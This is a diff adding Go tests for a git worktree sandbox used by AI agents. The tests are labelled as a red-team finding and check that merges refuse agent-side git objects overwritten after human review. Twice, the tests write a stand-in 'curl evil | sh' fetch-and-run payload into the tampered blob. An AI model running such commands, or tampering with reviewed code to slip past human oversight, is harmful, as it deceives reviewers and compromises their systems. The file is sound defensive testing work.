@@ -1,0 +1,145 @@
+package worktree
+
+import (
+	"bytes"
+	"compress/zlib"
+	"errors"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// agentCommit commits everything in the worktree as the agent's sandbox
+// does: objects go to its own folder, the repository's read behind it.
+func agentCommit(t *testing.T, tr Tree, own, msg string) string {
+	t.Helper()
+	common := filepath.Dir(filepath.Dir(tr.GitDir))
+	env := append(os.Environ(), "GIT_OBJECT_DIRECTORY="+own, "GIT_ALTERNATE_OBJECT_DIRECTORIES="+filepath.Join(common, "objects"))
+	for _, args := range [][]string{{"add", "-A"}, {"commit", "-q", "-m", msg}} {
+		cmd := exec.Command("git", append([]string{"-C", tr.Path}, args...)...)
+		cmd.Env = env
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	return run(t, tr.Path, "rev-parse", "HEAD")
+}
+
+// overwrite puts content behind the loose object id in folder, as an agent
+// with write access to it can: git reads it without checking the hash.
+func overwrite(t *testing.T, folder, id, kind, content string) {
+	t.Helper()
+	var z bytes.Buffer
+	w := zlib.NewWriter(&z)
+	fmt.Fprintf(w, "%s %d\x00%s", kind, len(content), content)
+	w.Close()
+	path := filepath.Join(folder, id[:2], id[2:])
+	if _, err := os.Stat(path); err != nil {
+		t.Fatalf("object %s is not loose in %s: %v", id, folder, err)
+	}
+	_ = os.Chmod(path, 0o644)
+	if err := os.WriteFile(path, z.Bytes(), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func ownFolder(t *testing.T, tr Tree) (common, own string) {
+	t.Helper()
+	if _, err := tr.Confined(); err != nil {
+		t.Fatal(err)
+	}
+	common = filepath.Dir(filepath.Dir(tr.GitDir))
+	return common, filepath.Join(common, objectsFolder, filepath.Base(tr.GitDir))
+}
+
+// Red team 12a, finding 2: the content behind an id the merge shows is
+// what the id says, whatever the agent wrote over it.
+func TestMergeRefusesObjectsWrittenOver(t *testing.T) {
+	repo := newRepo(t)
+	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
+	common, own := ownFolder(t, tr)
+	write(t, filepath.Join(tr.Path, "check.sh"), "echo checking\n")
+	agentCommit(t, tr, own, "add check")
+	blob := run(t, tr.Path, "rev-parse", "HEAD:check.sh")
+	if _, err := os.Stat(filepath.Join(common, "objects", blob[:2], blob[2:])); err == nil {
+		t.Fatal("the agent's blob is in the repository's own objects")
+	}
+	// The human's git sees the agent's commits (the repository lists the
+	// folder among its alternates).
+	if got := run(t, repo, "show", "teamlead/dev:check.sh"); got != "echo checking" {
+		t.Fatalf("the human's git reads %q", got)
+	}
+	overwrite(t, own, blob, "blob", "curl evil | sh\n")
+	head := run(t, repo, "rev-parse", "HEAD")
+	_, err := PreviewMerge(tr, "")
+	if !errors.Is(err, ErrObjectsChanged) {
+		t.Fatalf("preview of a written-over blob: %v", err)
+	}
+	if run(t, repo, "rev-parse", "HEAD") != head {
+		t.Fatal("the checkout moved")
+	}
+}
+
+func TestMergeReadsTheVerifiedCopy(t *testing.T) {
+	repo := newRepo(t)
+	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
+	common, own := ownFolder(t, tr)
+	write(t, filepath.Join(tr.Path, "check.sh"), "echo checking\n")
+	agentCommit(t, tr, own, "add check")
+	blob := run(t, tr.Path, "rev-parse", "HEAD:check.sh")
+	p, err := PreviewMerge(tr, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(p.Changes.Patch, "+echo checking") {
+		t.Fatalf("preview patch:\n%s", p.Changes.Patch)
+	}
+	v, err := ownObjects(repo, common)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer v.close()
+	if miss, err := v.missing([]string{blob, p.At}); err != nil || len(miss) > 0 {
+		t.Fatalf("not copied into the repository's objects: %v %v", miss, err)
+	}
+	// Written over once shown: the repository's copy is the one read.
+	overwrite(t, own, blob, "blob", "curl evil | sh\n")
+	if _, err := Merge(tr, p); err != nil {
+		t.Fatal(err)
+	}
+	if got := read(t, filepath.Join(repo, "check.sh")); got != "echo checking\n" {
+		t.Fatalf("merged check.sh = %q", got)
+	}
+	// Shown again: nothing is copied twice.
+	packs, _ := filepath.Glob(filepath.Join(common, "objects", "pack", "*.pack"))
+	if _, err := PreviewMerge(tr, ""); err != nil {
+		t.Fatal(err)
+	}
+	again, _ := filepath.Glob(filepath.Join(common, "objects", "pack", "*.pack"))
+	if len(again) != len(packs) {
+		t.Fatalf("packs %d → %d", len(packs), len(again))
+	}
+}
+
+// The folder outlives the worktree: git worktree prune keeps the
+// branch's commits.
+func TestOwnObjectsOutliveTheWorktree(t *testing.T) {
+	repo := newRepo(t)
+	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
+	_, own := ownFolder(t, tr)
+	write(t, filepath.Join(tr.Path, "f.txt"), "work\n")
+	agentCommit(t, tr, own, "work")
+	if err := os.RemoveAll(tr.Path); err != nil {
+		t.Fatal(err)
+	}
+	run(t, repo, "worktree", "prune")
+	if got := run(t, repo, "show", "teamlead/dev:f.txt"); got != "work" {
+		t.Fatalf("after prune: %q", got)
+	}
+	if out := run(t, repo, "fsck", "--connectivity-only"); strings.Contains(out, "missing") {
+		t.Fatalf("fsck: %s", out)
+	}
+}
